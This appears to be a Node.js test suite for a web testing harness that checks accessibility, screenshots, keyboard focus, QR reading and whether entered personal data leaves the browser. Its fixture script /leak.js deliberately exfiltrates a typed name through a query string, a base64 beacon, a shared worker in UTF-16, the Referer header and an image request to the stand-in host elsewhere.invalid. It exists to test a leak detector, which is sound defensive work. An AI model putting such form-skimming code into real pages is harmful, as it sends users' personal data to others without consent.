// Shows that the tools of these tests see what they are for: each is held against a page that is right and one that is
// wrong. A small server of its own stands in for the product, with the strict rules that the product sends.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFile, stat } from 'node:fs/promises';
import http from 'node:http';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';

import { checkAccessibility } from '../lib/accessibility.mjs';
import { launch, visitor } from '../lib/browser.mjs';
import { checkStops, keyboardWalk, tabTo } from '../lib/keyboard.mjs';
import { checkNothingLeft, searchForValues } from '../lib/leaks.mjs';
import { readQr } from '../lib/qr.mjs';
import { startRecorder } from '../lib/requests.mjs';
import { pictures } from '../lib/screens.mjs';

const page = (body, head = '') => `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>見本</title>
  <meta name="viewport" content="width=device-width"><link rel="icon" href="data:,">${head}</head>
  <body><main><h1>見本</h1>${body}</main></body></html>`;

const FORM = `<form method="get" action="/sent"><label for="name">氏名</label> <input id="name" name="name">
  <label for="phone">電話</label> <input id="phone" name="phone"> <button>送る</button></form>
  <p><a href="/second">次へ</a></p>`;

const PAGES = {
  '/': page(FORM),
  '/sent': page('<p>受け取りました。</p>'),
  '/second': page('<p>二枚目です。</p>'),
  '/unlabelled': page('<input name="name"><img src="data:,">'),
  '/wide': page('<p style="width: 900px">広い</p>', '<link rel="stylesheet" href="/wide.css">'),
  '/unseen': page('<button class="bare">見えない</button>', '<link rel="stylesheet" href="/bare.css">'),
  '/leaking': page(FORM, '<script src="/leak.js" defer></script>'),
};

const FILES = {
  '/wide.css': ['text/css', 'p { width: 900px; }'],
  '/bare.css': ['text/css', '.bare:focus { outline: none; }'],
  // Each way on its own: address, beacon, worker, header and a host that is not ours.
  '/leak.js': [
    'text/javascript',
    `const worker = new SharedWorker('/worker.js');
     document.querySelector('#name').addEventListener('change', (event) => {
       const value = event.target.value;
       fetch('/log?v=' + encodeURIComponent(value));
       navigator.sendBeacon('/beacon', btoa(unescape(encodeURIComponent('{"a":"' + value + '"}'))));
       worker.port.postMessage(value);
       new Image().src = 'http://elsewhere.invalid/' + encodeURIComponent(value);
       history.replaceState(null, '', '?q=' + encodeURIComponent(value));
       fetch('/quiet');
     });`,
  ],
  '/worker.js': [
    'text/javascript',
    `onconnect = (event) => { event.ports[0].onmessage = ({ data }) => {
       fetch('/worker', { method: 'POST', body: JSON.stringify([...data].map((c) => c.charCodeAt(0))) });
       fetch('/worker', { method: 'PUT', body: new Uint8Array(new Uint16Array([...data].map((c) => c.charCodeAt(0))).buffer) });
     }; };`,
  ],
};

function answer(request, response) {
  const path = new URL(request.url, 'http://here').pathname;
  // Images are let out, so that the leak to another host is tried at all.
  response.setHeader('content-security-policy', "default-src 'self'; img-src * data:");
  response.setHeader('referrer-policy', 'unsafe-url');
  const [type, body] = FILES[path] ?? ['text/html', PAGES[path]];
  if (body === undefined) return response.writeHead(404).end();
  return response.writeHead(200, { 'content-type': `${type}; charset=utf-8` }).end(body);
}

const NAME = '例示 花子';
const PHONE = '０９０－００００－１２３４';

let browser;
let server;
let home;

before(async () => {
  server = http.createServer(answer).listen(0, '127.0.0.1');
  await once(server, 'listening');
  home = `http://127.0.0.1:${server.address().port}`;
  browser = await launch();
});

after(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
});

/** Opens a page as a fresh visitor, and closes everything behind it. */
async function visit(path, walk, setting = {}) {
  const context = await visitor(browser, setting);
  try {
    const opened = await context.newPage();
    await opened.goto(home + path, { waitUntil: 'load' });
    return await walk(opened);
  } finally {
    await context.close();
  }
}

describe('accessibility', () => {
  test('an ordinary page holds, under a strict content security policy', () => visit('/', checkAccessibility));

  test('a field without a label and a picture without words are named with rule and place', () =>
    visit('/unlabelled', async (opened) => {
      await assert.rejects(checkAccessibility(opened), (error) => {
        assert.match(error.message, /label \(critical\)/);
        assert.match(error.message, /image-alt/);
        assert.match(error.message, /<input name="name">/);
        return true;
      });
      await checkAccessibility(opened, { except: { label: 'shown here', 'image-alt': 'shown here' } });
    }));
});

describe('pictures', () => {
  test('three widths are taken', () =>
    visit('/', async (opened) => {
      const paths = await pictures(opened, 'harness', { wanted: true });
      assert.equal(paths.length, 3);
      for (const path of paths) assert.ok((await stat(path)).size > 1000, path);
    }));

  test('a page wider than its window is refused', () =>
    visit('/wide', (opened) => assert.rejects(pictures(opened, 'harness-wide'), /at a width of 360/)));
});

describe('keyboard', () => {
  test('the walk gives the stops in order', () =>
    visit('/', async (opened) => {
      const stops = await keyboardWalk(opened);
      assert.deepEqual(stops.map(({ name }) => name), ['氏名', '電話', '送る', '次へ']);
      checkStops(stops);
      await opened.reload();
      assert.equal(await tabTo(opened, '送る'), 3);
    }));

  test('a focus that cannot be seen is named', () =>
    visit('/unseen', async (opened) => {
      const stops = await keyboardWalk(opened);
      assert.throws(() => checkStops(stops), /見えない: the focus cannot be seen/);
    }));
});

describe('what leaves the browser', () => {
  /** Enters a name on a page with everything recorded after it was there. */
  async function entering(path, then = async () => {}) {
    const recorder = await startRecorder();
    try {
      await visit(
        path,
        async (opened) => {
          recorder.clear();
          await opened.fill('#name', NAME);
          await opened.keyboard.press('Tab');
          await then(opened);
        },
        { recorder },
      );
      return recorder.list;
    } finally {
      await recorder.close();
    }
  }

  test('a page that keeps everything to itself passes', async () => {
    const list = await entering('/', (opened) => opened.click('text=次へ'));
    assert.deepEqual(list.map(({ url }) => url), [`${home}/second`]);
    checkNothingLeft(list, [NAME, PHONE]);
  });

  test('a form sent in the address is found', async () => {
    const list = await entering('/', async (opened) => {
      await opened.click('text=送る');
      await opened.waitForURL('**/sent*');
    });
    const found = searchForValues(list, [NAME]);
    assert.ok(found.some(({ where, request }) => where === 'address' && request.startsWith('GET')));
  });

  test('a leaking page is found by every way it leaks', async () => {
    const list = await entering('/leaking', (opened) => opened.waitForTimeout(700));
    const found = searchForValues(list, [NAME]);
    const by = (path) => found.filter(({ request }) => request.split(' ')[1].startsWith(path));
    assert.ok(by(`${home}/log`).some(({ where }) => where === 'address'), 'address');
    assert.ok(by(`${home}/beacon`).some(({ form }) => form === 'base64 of UTF-8'), 'beacon');
    assert.ok(by(`${home}/worker`).some(({ form }) => form === 'UTF-16LE'), 'shared worker');
    assert.ok(by(`${home}/quiet`).some(({ where }) => where === 'header referer'), 'referer');
    assert.ok(by('http://elsewhere.invalid/').length > 0, 'another host');
    assert.ok(list.find(({ url }) => url.includes('elsewhere.invalid')).refused);
    assert.throws(() => checkNothingLeft(list, [NAME]), /something entered left the browser/);
  });
});

describe('the search', () => {
  const sent = (body, url = 'http://127.0.0.1/') => [{ method: 'POST', url, headers: [], body: Buffer.from(body) }];
  const forms = (list, value) => searchForValues(list, [value]).map(({ form }) => form);
  const big = (text) => Buffer.from(text, 'utf16le').swap16();

  const worn = {
    plain: `a${NAME}b`,
    'percent-encoded': encodeURIComponent(NAME),
    'percent-encoded in small letters': encodeURIComponent(NAME).toLowerCase(),
    'percent-encoded twice': encodeURIComponent(encodeURIComponent(NAME)),
    'form-encoded': new URLSearchParams({ name: NAME }).toString(),
    'base64 at 0': Buffer.from(NAME).toString('base64'),
    'base64 at 1': Buffer.from(`a${NAME}b`).toString('base64'),
    'base64 at 2': Buffer.from(`ab${NAME}c`).toString('base64url'),
    'base64, form-encoded': new URLSearchParams({ a: Buffer.from(NAME).toString('base64') }).toString(),
    'UTF-16LE': Buffer.from(NAME, 'utf16le'),
    'UTF-16BE': big(NAME),
    'base64 of UTF-16': Buffer.from(NAME, 'utf16le').toString('base64'),
    hexadecimal: Buffer.from(NAME).toString('hex').toUpperCase(),
    'JSON escapes': [...NAME].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0').toUpperCase()}`).join(''),
    'HTML references': [...NAME].map((c) => (c === ' ' ? c : `&#${c.codePointAt(0)};`)).join(''),
    gzip: gzipSync(NAME),
  };
  for (const [name, body] of Object.entries(worn)) {
    test(`finds a value ${name}`, () => {
      // A space between escaped characters may stand as itself.
      const bytes = name === 'JSON escapes' ? body.replace('\\u0020', ' ') : body;
      assert.notDeepEqual(forms(sent(bytes), NAME), []);
    });
  }

  test('finds a number typed in full width and sent in half', () => {
    assert.notDeepEqual(forms(sent('{"tel":"09000001234"}'), PHONE), []);
    assert.notDeepEqual(forms(sent('', 'http://127.0.0.1/?t=090-0000-1234'), PHONE), []);
  });

  test('leaves alone what is not there', () => {
    const other = sent(JSON.stringify({ name: '見本 太郎', tel: '0312345678', noise: 'x'.repeat(5000) }));
    assert.deepEqual(searchForValues(other, [NAME, PHONE]), []);
  });

  test('refuses a value too short to be told from chance', () => {
    assert.throws(() => searchForValues([], ['1']), /too short/);
  });
});

describe('QR symbols', () => {
  const file = fileURLToPath(new URL('fixtures/symbol.png', import.meta.url));

  test('are read from a file and from bytes', async () => {
    assert.deepEqual(await readQr(file), ['KAKANAI SELF-TEST 0123456789']);
    assert.deepEqual(await readQr(await readFile(file)), ['KAKANAI SELF-TEST 0123456789']);
  });

  test('where there is none, nothing is read', () =>
    visit('/', async (opened) => assert.deepEqual(await readQr(await opened.screenshot()), [])));
});
